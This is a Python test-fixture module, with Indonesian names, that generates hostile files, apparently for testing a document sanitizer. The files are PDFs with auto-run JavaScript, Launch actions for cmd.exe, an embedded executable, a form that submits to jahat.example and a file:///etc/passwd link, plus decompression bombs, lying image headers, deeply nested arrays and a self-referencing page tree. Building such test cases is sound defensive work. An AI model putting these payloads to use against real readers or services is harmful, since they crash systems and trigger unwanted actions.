"""Files as they come from a broken line, a careless phone, or somebody who means harm."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.pabrik import berkas as pabrik


def simpan(pdf: pikepdf.Pdf, **lain) -> bytes:
    keluar = io.BytesIO()
    pdf.save(keluar, **lain)
    return keluar.getvalue()


def zip_(nama: str = "isi.txt") -> bytes:
    keluar = io.BytesIO()
    with zipfile.ZipFile(keluar, "w") as arsip:
        arsip.writestr(nama, "isi")
    return keluar.getvalue()


def png(lebar: int, tinggi: int, isi: bytes = b"\0" * 1000) -> bytes:
    """A few hundred bytes that claim to be a picture of this size."""

    def potong(jenis: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + jenis
            + data
            + struct.pack(">I", zlib.crc32(jenis + data))
        )

    kepala = struct.pack(">IIBBBBB", lebar, tinggi, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + potong(b"IHDR", kepala)
        + potong(b"IDAT", zlib.compress(isi))
        + potong(b"IEND", b"")
    )


def jpg_mengaku(lebar: int, tinggi: int) -> bytes:
    """A good small JPEG whose header says that it is enormous."""
    isi = bytearray(pabrik.gambar("JPEG", 40, 30))
    letak = isi.index(b"\xff\xc0")
    isi[letak + 5 : letak + 9] = struct.pack(">HH", tinggi, lebar)
    return bytes(isi)


def pdf_bertindak() -> bytes:
    """A PDF with everything that acts, each in the place where a reader looks for it."""
    pdf = pikepdf.new()
    halaman = pdf.add_blank_page()
    js = Dictionary(S=Name.JavaScript, JS=String("app.alert('jahat')"))
    luncur = Dictionary(S=Name.Launch, F=String("cmd.exe"))
    berkas = pdf.make_indirect(
        Dictionary(
            Type=Name.Filespec,
            F=String("jahat.exe"),
            EF=Dictionary(F=pdf.make_stream(b"MZ jahat", Type=Name.EmbeddedFile)),
        )
    )

    def kotak(**isi):
        return pdf.make_indirect(Dictionary(Type=Name.Annot, Rect=Array([0, 0, 200, 200]), **isi))

    bidang = kotak(
        Subtype=Name.Widget, FT=Name.Tx, T=String("nama"), V=String("x"),
        AA=Dictionary(K=js), A=Dictionary(S=Name.SubmitForm, F=String("http://jahat.example/")),
    )  # fmt: skip
    halaman.obj.Contents = pdf.make_stream(b"BT ET")
    halaman.obj.AA = Dictionary(O=js, C=luncur)
    halaman.obj.PieceInfo = Dictionary(X=Dictionary(Private=berkas))
    halaman.obj.Annots = Array(
        [
            bidang,
            kotak(Subtype=Name.Link, A=js),
            kotak(Subtype=Name.Link, A=luncur),
            kotak(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("javascript:alert(1)"))),
            kotak(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("file:///etc/passwd"))),
            kotak(
                Subtype=Name.Link,
                A=Dictionary(S=Name.URI, URI=String("https://kemendagri.go.id/"), Next=js),
            ),
            kotak(Subtype=Name.FileAttachment, FS=berkas),
            kotak(Subtype=Name.RichMedia, RichMediaContent=Dictionary(Assets=berkas)),
            kotak(Subtype=Name.Screen, A=Dictionary(S=Name.Rendition, JS=String("app.beep()"))),
            kotak(Subtype=Name.Movie, Movie=Dictionary(F=berkas)),
        ]
    )
    akar = pdf.Root
    akar.OpenAction = js
    akar.AA = Dictionary(WC=js, WS=luncur)
    akar.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("a"), js])),
        EmbeddedFiles=Dictionary(Names=Array([String("b"), berkas])),
    )
    akar.AF = Array([berkas])
    akar.AcroForm = Dictionary(
        Fields=Array([bidang]), XFA=pdf.make_stream(b"<xdp:xdp/>"), CO=Array([bidang])
    )
    akar.URI = Dictionary(Base=String("javascript:"))
    akar.Outlines = pdf.make_indirect(
        Dictionary(First=pdf.make_indirect(Dictionary(Title=String("x"), A=luncur)))
    )
    pdf.docinfo["/Author"] = "Seseorang"
    return simpan(pdf)


def pdf_bom_isi(mega: int = 400) -> bytes:
    """A page whose content is hundreds of megabytes of nothing, packed a thousandfold."""
    return _pdf_aliran(_padat(mega), Filter=Name.FlateDecode)


def pdf_bom_rangkap(mega: int = 400) -> bytes:
    """The same, packed twice: some kilobytes."""
    return _pdf_aliran(
        zlib.compress(_padat(mega), 9), Filter=Array([Name.FlateDecode, Name.FlateDecode])
    )


def _padat(mega: int) -> bytes:
    pemampat = zlib.compressobj(9)
    blok = b" " * 1_000_000
    return b"".join(pemampat.compress(blok) for _ in range(mega)) + pemampat.flush()


def _pdf_aliran(isi: bytes, **kamus) -> bytes:
    pdf = pikepdf.new()
    halaman = pdf.add_blank_page()
    halaman.obj.Contents = pikepdf.Stream(pdf, isi, **kamus)
    return simpan(pdf, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def pdf_citra(lebar: int, tinggi: int) -> bytes:
    """A page with an image that says it has this size, and hardly any bytes."""
    pdf = pikepdf.new()
    halaman = pdf.add_blank_page()
    citra = pikepdf.Stream(
        pdf, zlib.compress(b"\0" * 1000), Type=Name.XObject, Subtype=Name.Image, Width=lebar,
        Height=tinggi, ColorSpace=Name.DeviceRGB, BitsPerComponent=8, Filter=Name.FlateDecode,
    )  # fmt: skip
    halaman.obj.Resources = Dictionary(XObject=Dictionary(A=citra))
    return simpan(pdf, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def pdf_bom_objek(mega: int = 900) -> bytes:
    """An object stream that unpacks to hundreds of megabytes before a page is known."""
    isi = _padat(mega)
    badan = b"%PDF-1.5\n"
    letak = {}

    def tambah(nomor: int, objek: bytes) -> None:
        nonlocal badan
        letak[nomor] = len(badan)
        badan += b"%d 0 obj\n" % nomor + objek + b"\nendobj\n"

    tambah(
        4,
        b"<</Type/ObjStm/N 2/First 10/Filter/FlateDecode/Length %d>>\nstream\n" % len(isi)
        + isi
        + b"\nendstream",
    )
    letak[5] = len(badan)
    baris = [b"\0\0\0\0\0\0\0\xff"]
    isi_xref = baris[0][:1] + b"\0\0\0\0" + b"\xff\xff"
    for nomor in range(1, 6):
        if nomor in (1, 2):
            isi_xref += b"\x02" + (4).to_bytes(4, "big") + (nomor - 1).to_bytes(2, "big")
        elif nomor in letak:
            isi_xref += b"\x01" + letak[nomor].to_bytes(4, "big") + b"\0\0"
        else:
            isi_xref += b"\0\0\0\0\0\0\0"
    xref = letak[5]
    badan += (
        b"5 0 obj\n<</Type/XRef/Size 6/W[1 4 2]/Root 1 0 R/Length %d>>\nstream\n" % len(isi_xref)
        + isi_xref
        + b"\nendstream\nendobj\n"
    )
    return badan + b"startxref\n%d\n%%%%EOF\n" % xref


def pdf_dalam(lapis: int = 100_000) -> bytes:
    """Arrays within arrays, deeper than any reader should follow."""
    badan = (
        b"%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
        b"2 0 obj\n<</Type/Pages/Count 1/Kids[3 0 R]>>\nendobj\n"
        b"3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Resources "
    )
    letak = [badan.index(b"%d 0 obj" % n) for n in (1, 2, 3)]
    badan += b"[" * lapis + b"]" * lapis + b">>\nendobj\n"
    xref = len(badan)
    badan += b"xref\n0 4\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % p for p in letak)
    return badan + b"trailer\n<</Size 4/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % xref


def pdf_melingkar() -> bytes:
    """A page tree that is its own child."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.Root.Pages.Kids.append(pdf.Root.Pages)
    pdf.Root.Pages.Count = 2
    return simpan(pdf)
